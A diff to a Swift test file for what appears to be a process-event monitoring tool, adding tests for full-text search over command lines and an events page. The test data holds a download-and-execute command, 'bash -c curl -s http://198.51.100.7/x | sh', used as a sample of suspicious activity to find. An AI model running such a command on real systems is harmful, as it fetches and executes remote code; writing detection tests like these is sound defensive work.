@@ -220,6 +220,9 @@ import Testing
             #expect(refused == .badRequest && (error["error"] as? String ?? "").contains("DROP statements are not allowed"))
             let (badTime, timeError, _) = try await get("sql=SELECT%201&since=yesterday")
             #expect(badTime == .badRequest && (timeError["error"] as? String ?? "").contains("since: 'yesterday' is not a time"))
+            // Full-text search over command lines: the events with every word.
+            let (_, found, _) = try await get("sql=SELECT%20id%20FROM%20processes%20ORDER%20BY%20id&search=curl%20sh")
+            #expect((found["rows"] as? [[Any]])?.compactMap { $0.first as? String } == ["w2"], "\(found)")
             let (_, _, csv) = try await get("sql=SELECT%20name,%20tags%20FROM%20hosts%20ORDER%20BY%20name&format=csv")
             #expect(csv == "name,tags\ndb1,\"env=prod,role=db\"\nweb1,\"env=prod,role=web\"\n")
             let posted = try await client.execute(
@@ -240,6 +243,8 @@ import Testing
             #expect(hosts.0 == .ok && hosts.1.contains("env=prod,role=web") && !hosts.1.contains("role=db"))
             let search = try await page("/events?hosts=all&text=198.51.100.7&since=2026-11-23T00:00:00Z")
             #expect(search.1.contains("bash -c curl -s http://198.51.100.7/x | sh"), "\(search.1)")
+            let words = try await page("/events?words=curl+sh")
+            #expect(words.1.contains("bash -c curl -s http://198.51.100.7/x | sh") && !words.1.contains("<td>curl -s http://198.51.100.7/x</td>"), "\(words.1)")
             let tree = try await page("/process/E-bash")
             #expect(tree.0 == .ok && tree.1.contains(#"href="/process/E-nginx""#) && tree.1.contains(#"href="/process/E-curl""#))
             let alerts = try await page("/alerts")
